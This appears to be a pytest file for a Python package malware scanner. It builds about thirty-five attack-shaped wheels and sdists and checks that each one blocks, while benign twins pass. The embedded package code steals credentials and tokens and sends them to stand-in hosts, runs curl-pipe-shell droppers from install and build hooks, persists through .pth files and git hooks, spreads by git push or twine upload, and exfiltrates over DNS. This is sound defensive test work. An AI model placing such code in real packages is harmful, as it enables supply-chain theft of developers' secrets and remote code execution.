"""Attack variants: each a realistic incident shape from THREATS.md with one evasion
applied (another credential source, another network road, code run from data, another
trigger, another persistence place), built as a real wheel or sdist and scanned, never
run. Each has a benign twin (the same capability used the way libraries use it) that
must not block. The shapes name no sample, hash or package of the malware set.
"""

from __future__ import annotations

import base64
import pickle
from pathlib import Path

import pytest

from scanner.checks.heuristics.check import scan_distribution_file
from scanner.models import Finding, Severity
from tests.helpers.wheels import make_wheel
from tests.rules.test_attack_shapes import make_sdist

_PICKLE = base64.b64encode(pickle.dumps({"k": 1})).decode()  # data only: never loaded here
_EBCDIC = "exec(__import__('requests').get('https://paste.example/raw/x').text)".encode("cp1026")
_BLOB = base64.b64encode(b"\x90" * 64 + b"\xcc" * 64).decode()


def _blocking(findings: list[Finding]) -> list[str]:
    return sorted({f.rule_id for f in findings if f.severity >= Severity.HIGH})


# name -> (kind, files, entry_points); every one must block
ATTACKS: dict[str, tuple[str, dict[str, str], str]] = {
    # lightning-shaped stealer, credential read through a CLI credential helper, sent
    # with http.client instead of requests
    "cli-helper-http-client": (
        "wheel",
        {
            "mlkit/__init__.py": """
import http.client, json, subprocess
def _tok():
    return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
conn = http.client.HTTPSConnection("telemetry-mlkit.example")
conn.request("POST", "/v1/ingest", body=json.dumps({"t": _tok()}))
""",
        },
        "",
    ),
    # fabrice-shaped: the SDK's credential chain, keys sent in a query string at import
    "sdk-credentials-query-string": (
        "wheel",
        {
            "fabrik/__init__.py": """
import boto3, requests
c = boto3.Session().get_credentials().get_frozen_credentials()
requests.get("https://sync.fabrik-cdn.example/v?" + c.access_key + "&" + c.secret_key)
""",
        },
        "",
    ),
    # durabletask-shaped: instance metadata credentials over a raw socket at import
    "metadata-endpoint-raw-socket": (
        "wheel",
        {
            "durabletools/__init__.py": """
import socket, urllib.request
role = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()
s = socket.create_connection(("203.0.113.7", 443))
s.sendall(role)
""",
        },
        "",
    ),
    # litellm-shaped lateral movement: the pod's token used to start a privileged pod
    "k8s-privileged-pod": (
        "wheel",
        {
            "proxyx/__init__.py": """
import requests
TOKEN = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
pod = {"spec": {"hostPID": True, "containers": [{"name": "n", "image": "alpine",
       "securityContext": {"privileged": True}}]}}
requests.post("https://kubernetes.default.svc/api/v1/namespaces/kube-system/pods",
              json=pod, headers={"Authorization": "Bearer " + TOKEN}, verify=False)
""",
        },
        "",
    ),
    # W4SP-shaped install hook, payload shipped as a text file that setup.py execs
    "setup-exec-text-file": (
        "sdist",
        {
            "setup.py": """
import os
from setuptools import setup
exec(open(os.path.join(os.path.dirname(__file__), "docs_banner.txt")).read())
setup(name="colorfy", version="1.0")
""",
            "docs_banner.txt": "print('hi')\n",
        },
        "",
    ),
    # import-time dropper, stage two shipped as data and run with runpy
    "runpy-data-file": (
        "wheel",
        {
            "visiontools/__init__.py": """
import os, runpy
runpy.run_path(os.path.join(os.path.dirname(__file__), "assets", "palette.dat"))
""",
            "visiontools/assets/palette.dat": "print('stage two')\n",
        },
        "",
    ),
    # aiocpa-shaped obfuscation, the payload a pickled constant instead of exec(b64)
    "pickle-constant": (
        "wheel",
        {
            "cryptopay/__init__.py": f"""
import base64, pickle
pickle.loads(base64.b64decode("{_PICKLE}"))
""",
        },
        "",
    ),
    # shellcode through mmap + ctypes instead of VirtualAlloc
    "mmap-shellcode": (
        "wheel",
        {
            "fastmath/__init__.py": f"""
import base64, ctypes, mmap
code = base64.b64decode("{_BLOB}")
buf = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(code)
""",
        },
        "",
    ),
    # ctx-shaped secret theft, fired at interpreter exit instead of on import
    "atexit-trigger": (
        "wheel",
        {
            "dictx/__init__.py": """
import atexit, os, requests
@atexit.register
def _flush():
    requests.post("https://stats.dictx.example/e", json=dict(os.environ))
""",
        },
        "",
    ),
    # the payload runs when the user's own code downloads a model: torch.hub patched
    "monkey-patched-torch-hub": (
        "wheel",
        {
            "hubcache/__init__.py": """
import os, torch.hub, requests
_orig = torch.hub.load_state_dict_from_url
def _patched(url, *a, **k):
    requests.post("https://hubcache-metrics.example/u", json={"u": url, "e": dict(os.environ)})
    return _orig(url, *a, **k)
torch.hub.load_state_dict_from_url = _patched
""",
        },
        "",
    ),
    # a pytest plugin: the hook runs in every test session of every project
    "pytest-plugin-hook": (
        "wheel",
        {
            "pytest_speedup/plugin.py": """
import os, requests
def pytest_configure(config):
    requests.post("https://pytest-speedup.example/c", json={"env": dict(os.environ)})
""",
        },
        "[pytest11]\nspeedup = pytest_speedup.plugin\n",
    ),
    # an in-tree PEP 517 backend: the hook runs when pip builds the sdist
    "pep517-backend-hook": (
        "sdist",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
            'backend-path = ["_build"]\n',
            "_build/backend.py": """
import os
def get_requires_for_build_wheel(config_settings=None):
    os.system("curl -s https://cdn.example/x.sh | sh")
    return []
""",
        },
        "",
    ),
    # persistence through IPython's startup folder instead of a shell rc file
    "ipython-startup-persistence": (
        "wheel",
        {
            "nbhelpers/__init__.py": """
import os
d = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "00-nb.py"), "w").write("import nbhelpers._agent")
""",
        },
        "",
    ),
    # persistence through a git hook
    "git-hook-persistence": (
        "wheel",
        {
            "gitutils/__init__.py": """
import os
hook = os.path.join(os.getcwd(), ".git/hooks/post-checkout")
open(hook, "w").write("#!/bin/sh\\ncurl -s https://x.example | sh\\n")
""",
        },
        "",
    ),
    # mrmustard-shaped: a .pth written into site-packages at run time
    "pth-written-at-runtime": (
        "wheel",
        {
            "tfcompat/__init__.py": """
import os, site
def _check_tf_compatibility():
    with open(os.path.join(site.getsitepackages()[0], "tf_cache.pth"), "w") as fh:
        probe = "~/.cache/.tf_cache/hw_probe.py"
        fh.write("import os; exec(open(os.path.expanduser(%r)).read())\\n" % probe)
""",
        },
        "",
    ),
    # worm spread: git push with a token, at import
    "git-push-token": (
        "wheel",
        {
            "repotools/__init__.py": """
import os, subprocess
t = os.environ.get("GITHUB_TOKEN", "")
url = "https://x-access-token:" + t + "@github.com/victim/repo.git"
subprocess.run(["git", "push", url, "HEAD:main"])
""",
        },
        "",
    ),
    # worm spread: twine upload as an argument list, at import
    "twine-upload-args": (
        "wheel",
        {
            "pkgbump/__init__.py": """
import subprocess, sys
subprocess.run([sys.executable, "-m", "twine", "upload", "--non-interactive", "dist/*"])
""",
        },
        "",
    ),
    # a DLL shipped as .dat and loaded with ctypes
    "renamed-native-ctypes": (
        "wheel",
        {
            "gpuinfo/__init__.py": """
import ctypes, os
ctypes.CDLL(os.path.join(os.path.dirname(__file__), "data", "calib.dat"))
""",
        },
        "",
    ),
    # the same DLL run with rundll32
    "renamed-native-rundll32": (
        "wheel",
        {
            "wintools/__init__.py": """
import os, subprocess
subprocess.Popen(["rundll32.exe", os.path.join(os.path.dirname(__file__), "theme.dat") + ",Run"])
""",
        },
        "",
    ),
    # a console script that shadows the Hugging Face CLI (and sees its token)
    "shadow-hf-cli": (
        "wheel",
        {"hfxfer/cli.py": "def main():\n    pass\n"},
        "[console_scripts]\nhuggingface-cli = hfxfer.cli:main\n",
    ),
    # a console script named like a tool the user runs anyway: its main() forks, the
    # parent returns at once, the child (out of the user's sight) sends the hub token
    "console-script-forks": (
        "wheel",
        {
            "hfxfer/cli.py": """
import os, socket
def _token():
    return open(os.path.expanduser("~/.cache/huggingface/token")).read()
def main():
    if os.fork():
        return 0
    os.setsid()
    s = socket.create_connection(("203.0.113.9", 443))
    s.sendall(_token().encode())
""",
        },
        "[console_scripts]\nhfxfer = hfxfer.cli:main\n",
    ),
    # a console script whose main() daemonizes a dropper (no secret read at all)
    "console-script-daemonizes-dropper": (
        "wheel",
        {
            "awsx/cli.py": """
import os, subprocess, urllib.request
def main():
    if os.fork():
        return
    os.setsid()
    data = urllib.request.urlopen("https://cdn.awsx.example/agent").read()
    open("/tmp/.agent", "wb").write(data)
    subprocess.Popen(["sh", "/tmp/.agent"])
""",
        },
        "[console_scripts]\nawsx = awsx.cli:main\n",
    ),
    # the patch wrapped the way the object model calls it (a classmethod), so the
    # payload runs in the user's own from_pretrained call
    "monkey-patched-classmethod": (
        "wheel",
        {
            "hubfast/__init__.py": """
import os, requests, transformers
_orig = transformers.PreTrainedModel.from_pretrained
def _from_pretrained(cls, *a, **k):
    requests.post("https://hubfast.example/u", json={"t": os.environ.get("HF_TOKEN")})
    return _orig.__func__(cls, *a, **k)
transformers.PreTrainedModel.from_pretrained = classmethod(_from_pretrained)
""",
        },
        "",
    ),
    # the same through functools.wraps and setattr
    "monkey-patched-wraps-setattr": (
        "wheel",
        {
            "hubfast/__init__.py": """
import functools, os, requests, torch.hub
_orig = torch.hub.download_url_to_file
def _dl(url, dst, *a, **k):
    requests.post("https://hubfast.example/d", json=dict(os.environ))
    return _orig(url, dst, *a, **k)
setattr(torch.hub, "download_url_to_file", functools.wraps(_orig)(_dl))
""",
        },
        "",
    ),
    # shadowing the other token-holding CLIs the issue names
    "shadow-twine": (
        "wheel",
        {"twinefast/cli.py": "def main():\n    pass\n"},
        "[console_scripts]\ntwine = twinefast.cli:main\n",
    ),
    "shadow-aws-gcloud-hf": (
        "wheel",
        {"cloudcli/cli.py": "def main():\n    pass\n"},
        "[console_scripts]\naws = cloudcli.cli:main\ngcloud = cloudcli.cli:main\n"
        "hf = cloudcli.cli:main\n",
    ),
    # the cluster client's in-cluster loader reads the pod's token for the attacker
    "k8s-incluster-daemon-set": (
        "wheel",
        {
            "kubetools/__init__.py": """
from kubernetes import client, config
config.load_incluster_config()
ds = {"spec": {"template": {"spec": {"hostNetwork": True,
      "containers": [{"name": "n", "image": "alpine", "securityContext": {"privileged": True}}]}}}}
client.AppsV1Api().create_namespaced_daemon_set("kube-system", ds)
""",
        },
        "",
    ),
    # the send is curl in an argument list, the trigger a timer thread
    "curl-args-on-timer": (
        "wheel",
        {
            "statsd_lite/__init__.py": """
import os, subprocess, threading
def _flush():
    creds = os.path.expanduser("~/.aws/credentials")
    subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", "@" + creds,
                    "https://stats.example/u"])
threading.Timer(30.0, _flush).start()
""",
        },
        "",
    ),
    # setup.py hands a shipped module to a child interpreter (`python -c "import ..."`):
    # the module's function runs at install, though nothing in setup.py itself downloads
    "install-child-interpreter-inline": (
        "sdist",
        {
            "setup.py": """
import subprocess, sys
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
        subprocess.run([sys.executable, "-c", "import tmplkit.post_install as p; p.restore()"])
setup(name="tmplkit", cmdclass={"install": Post})
""",
            "tmplkit/__init__.py": "",
            "tmplkit/post_install.py": """
import os
def restore():
    os.system("curl -sL https://fhost.example/storage.sh | bash")
""",
        },
        "",
    ),
    # the same with a shipped script run as __main__
    "install-child-interpreter-script": (
        "sdist",
        {
            "setup.py": """
import os, subprocess, sys
from setuptools import setup
subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "post.py")])
setup(name="postkit")
""",
            "post.py": """
import os
if __name__ == "__main__":
    os.system("curl -sL https://fhost.example/agent.sh | sh")
""",
            "postkit/__init__.py": "",
        },
        "",
    ),
    # lightning-shaped stealer split across three modules that __init__ wires on import
    "split-across-modules": (
        "wheel",
        {
            "mlkit/__init__.py": """
from ._cfg import collect
from ._ep import endpoint
from ._net import send
send(endpoint(), collect())
""",
            "mlkit/_cfg.py": """
import os
def collect():
    return {"aws": open(os.path.expanduser("~/.aws/credentials")).read()}
""",
            "mlkit/_ep.py": """
def endpoint():
    return "https://" + "telemetry" + ".mlkit-cdn.example/v1"
""",
            "mlkit/_net.py": """
import json, urllib.request
def send(url, data):
    urllib.request.urlopen(url, data=json.dumps(data).encode())
""",
        },
        "",
    ),
    # DNS exfiltration of a token through gethostbyname_ex
    "dns-exfil": (
        "wheel",
        {
            "resolvr/__init__.py": """
import os, socket
socket.gethostbyname_ex(os.environ.get("NPM_TOKEN", "").encode().hex() + ".t.resolvr.example")
""",
        },
        "",
    ),
    # sol-structs-shaped: the name of `eval` and the code it runs hidden as EBCDIC (cp1026)
    "ebcdic-hidden-exec": (
        "wheel",
        {
            "solkit/__init__.py": f"""
import builtins
run = getattr(builtins, {"eval".encode("cp1026")!r}.decode("cp1026"))
run({_EBCDIC!r}.decode("cp1026"))
""",
        },
        "",
    ),
    # dependency-confusion callback: the DNS lookup itself reports the install
    "dns-beacon-install-hook": (
        "sdist",
        {
            "setup.py": """
import socket
from setuptools import setup
from setuptools.command.install import install
class Hook(install):
    def run(self):
        socket.gethostbyname("corp-lib.9oyng069p25x4kmle5dlnypj1a71vujj.b.example")
        install.run(self)
setup(name="corp-lib", version="99.0.0", cmdclass={"install": Hook})
""",
        },
        "",
    ),
    # a wallet "helper" posting the key it is given to the author's mock API project
    "catcher-instance-key-helper": (
        "wheel",
        {
            "tronkit/__init__.py": "from .main import perm\n",
            "tronkit/main.py": """
import requests
def perm(private_key):
    requests.post("https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/tron", [{"k", private_key}])
    return 0 if requests.get("https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/switcher").json() else 1
""",
        },
        "",
    ),
}


# name -> (kind, files, entry_points); none may block
BENIGN: dict[str, tuple[str, dict[str, str], str]] = {
    # a CLI that daemonizes a local server: it forks, but sends nothing and reads no secret
    "daemonizing-cli": (
        "wheel",
        {
            "devsrv/cli.py": """
import http.server, os, sys
def main():
    if os.fork():
        sys.exit(0)
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    with open(os.path.expanduser("~/.devsrv.pid"), "w") as fh:
        fh.write(str(os.getpid()))
    handler = http.server.SimpleHTTPRequestHandler
    http.server.ThreadingHTTPServer(("127.0.0.1", 8000), handler).serve_forever()
""",
        },
        "[console_scripts]\ndevsrv = devsrv.cli:main\n",
    ),
    # a CLI that uses the hub token for the user, in the foreground (no fork)
    "hub-cli-foreground": (
        "wheel",
        {
            "hubsync/cli.py": """
import os, requests
def main():
    token = open(os.path.expanduser("~/.cache/huggingface/token")).read().strip()
    auth = {"authorization": f"Bearer {token}"}
    r = requests.get("https://huggingface.co/api/whoami-v2", headers=auth)
    print(r.json()["name"])
""",
        },
        "[console_scripts]\nhubsync = hubsync.cli:main\n",
    ),
    # an operator that loads the in-cluster config on import and starts jobs in its
    # handlers, when the cluster asks for them
    "operator-loads-incluster-config": (
        "wheel",
        {
            "jobop/__init__.py": """
import kopf
from kubernetes import client, config
config.load_incluster_config()
@kopf.on.create("example.com", "v1", "trainjobs")
def start(spec, namespace, **_):
    body = {"spec": {"template": {"spec": {"containers": [{"name": "t", "image": spec["image"]}]}}}}
    client.BatchV1Api().create_namespaced_job(namespace, body)
""",
        },
        "",
    ),
    "release-tool-pypirc": (
        "wheel",
        {
            "releaser/upload.py": """
import configparser, os, requests
def upload(dist, repository="pypi"):
    cfg = configparser.ConfigParser()
    cfg.read(os.path.expanduser("~/.pypirc"))
    password = os.environ.get("TWINE_PASSWORD") or cfg.get(repository, "password")
    with open(dist, "rb") as fh:
        return requests.post("https://upload.pypi.org/legacy/", auth=("__token__", password),
                             files={"content": fh}, data={":action": "file_upload"})
""",
        },
        "",
    ),
    "language-server-wrapper": (
        "wheel",
        {
            "pyright_wrap/__init__.py": """
import os, subprocess, sys
HERE = os.path.dirname(__file__)
ENV = os.path.join(os.path.expanduser("~"), ".cache", "pyright-wrap", "nodeenv")
def _node():
    if not os.path.exists(ENV):
        subprocess.run([sys.executable, "-m", "nodeenv", ENV], check=True)
    return os.path.join(ENV, "bin", "node")
def main():
    return subprocess.call([_node(), os.path.join(HERE, "dist", "server.js"), *sys.argv[1:]])
""",
            "pyright_wrap/dist/server.js": "console.log(1)\n",
        },
        "[console_scripts]\npyright-wrap = pyright_wrap:main\n",
    ),
    "deploy-helper": (
        "wheel",
        {
            "deployer/__init__.py": """
import os, subprocess, sys, tempfile, requests
def deploy(url, workdir=None):
    workdir = workdir or tempfile.mkdtemp()
    path = os.path.join(workdir, "app.py")
    with open(path, "w") as fh:
        fh.write(requests.get(url, timeout=30).text)
    print("running", path)
    return subprocess.run([sys.executable, path], check=True)
""",
        },
        "",
    ),
    "cluster-client": (
        "wheel",
        {
            "kubeclient/incluster.py": """
import os
TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
def load_token():
    with open(TOKEN_FILE) as fh:
        return fh.read()
""",
            "kubeclient/api.py": """
def create_pod(api, namespace, body):
    return api.create_namespaced_pod(namespace, body)
""",
        },
        "",
    ),
    "aws-request-signer": (
        "wheel",
        {
            "sigv4/__init__.py": """
import boto3, requests
def signed_get(url):
    creds = boto3.Session().get_credentials().get_frozen_credentials()
    return requests.get(url, headers={"X-Amz-Security-Token": creds.token or ""})
""",
        },
        "",
    ),
    "cloud-metadata-agent": (
        "wheel",
        {
            "cloudinfo/__init__.py": """
import urllib.request
def instance_id():
    return urllib.request.urlopen("http://169.254.169.254/latest/meta-data/instance-id").read()
""",
        },
        "",
    ),
    "pytest-plugin-markers": (
        "wheel",
        {
            "pytest_slowmark/plugin.py": """
def pytest_configure(config):
    config.addinivalue_line("markers", "slow: a slow test")
""",
        },
        "[pytest11]\nslowmark = pytest_slowmark.plugin\n",
    ),
    "in-tree-backend": (
        "sdist",
        {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
            'build-backend = "backend"\nbackend-path = ["_build"]\n',
            "_build/backend.py": """
from setuptools import build_meta as _orig
def get_requires_for_build_wheel(config_settings=None):
    return _orig.get_requires_for_build_wheel(config_settings) + ["cython"]
build_wheel = _orig.build_wheel
""",
        },
        "",
    ),
    "atexit-cleanup": (
        "wheel",
        {
            "tmpcache/__init__.py": """
import atexit, shutil, tempfile
DIR = tempfile.mkdtemp()
@atexit.register
def _cleanup():
    shutil.rmtree(DIR, ignore_errors=True)
""",
        },
        "",
    ),
    "monkey-patch-progress": (
        "wheel",
        {
            "tqdmfix/__init__.py": """
import tqdm
_orig = tqdm.tqdm.__init__
def _init(self, *a, **k):
    k.setdefault("dynamic_ncols", True)
    _orig(self, *a, **k)
tqdm.tqdm.__init__ = _init
""",
        },
        "",
    ),
    "ctypes-own-library": (
        "wheel",
        {
            "fastops/__init__.py": """
import ctypes, os
_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "_fastops.so"))
""",
        },
        "",
    ),
    "pickle-of-variable": (
        "wheel",
        {
            "cachekit/__init__.py": """
import pickle
def load(path):
    with open(path, "rb") as fh:
        return pickle.loads(fh.read())
""",
        },
        "",
    ),
    "own-hf-cli": (
        "wheel",
        {"huggingface_hub/cli.py": "def main():\n    pass\n"},
        "[console_scripts]\nhf = huggingface_hub.cli:main\n",
    ),
    "init-wires-setup-helpers": (
        "wheel",
        {
            "mlkit/__init__.py": """
from ._log import setup_logging
from ._compat import check_python
setup_logging()
check_python()
""",
            "mlkit/_log.py": """
import logging, os
def setup_logging():
    logging.basicConfig(level=os.environ.get("MLKIT_LOG", "WARNING"))
""",
            "mlkit/_compat.py": """
import sys, warnings
def check_python():
    if sys.version_info < (3, 9):
        warnings.warn("mlkit needs Python 3.9")
""",
            "mlkit/hub.py": """
import os, requests
def download(url):
    return requests.get(url, headers={"Authorization": os.environ.get("HF_TOKEN", "")})
""",
        },
        "",
    ),
    "setup-version-exec": (
        "sdist",
        {
            "setup.py": """
import os
from setuptools import setup
about = {}
exec(open(os.path.join("demo", "__version__.py")).read(), about)
setup(name="demo", version=about["__version__"])
""",
            "demo/__version__.py": "__version__ = '1.0'\n",
        },
        "",
    ),
}


def _build(tmp_path: Path, name: str, kind: str, files: dict[str, str], eps: str) -> Path:
    dist = name.replace("-", "_")
    if kind == "sdist":
        return make_sdist(tmp_path, dist, "1.0", files)
    extra = {"entry_points.txt": eps} if eps else None
    return make_wheel(tmp_path, dist, "1.0", files, dist_info_files=extra)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_variant_blocks(tmp_path: Path, name: str) -> None:
    kind, files, eps = ATTACKS[name]
    found = _blocking(scan_distribution_file(_build(tmp_path, name, kind, files, eps)))
    assert found, f"{name}: no blocking finding"


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_twin_passes(tmp_path: Path, name: str) -> None:
    kind, files, eps = BENIGN[name]
    found = _blocking(scan_distribution_file(_build(tmp_path, name, kind, files, eps)))
    assert not found, f"{name}: blocked by {found}"
